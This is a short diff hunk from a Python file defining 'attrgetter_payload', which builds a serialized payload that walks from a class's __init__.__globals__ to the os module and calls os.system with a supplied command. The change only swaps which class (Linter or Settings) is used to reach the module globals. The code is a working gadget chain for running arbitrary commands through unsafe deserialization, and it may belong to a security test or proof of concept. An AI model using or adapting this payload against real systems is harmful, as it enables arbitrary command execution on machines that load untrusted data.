@@ -140,7 +140,7 @@ def attrgetter_payload(command: str) -> bytes:
     def getter(names: str) -> bytes:
         return _call(_global("fmlint.pipeline.discover", "attrgetter"), _text(names))
 
-    module_globals = _call(getter("__init__.__globals__"), _global("fmlint.pipeline.check", "Linter"))
+    module_globals = _call(getter("__init__.__globals__"), _global("fmlint.pipeline.settings", "Settings"))
     os_module = _call(_call(getter("get"), module_globals), _text("os"))
     system = _call(getter("system"), os_module)
     return _call(system, _text(command)) + b"."
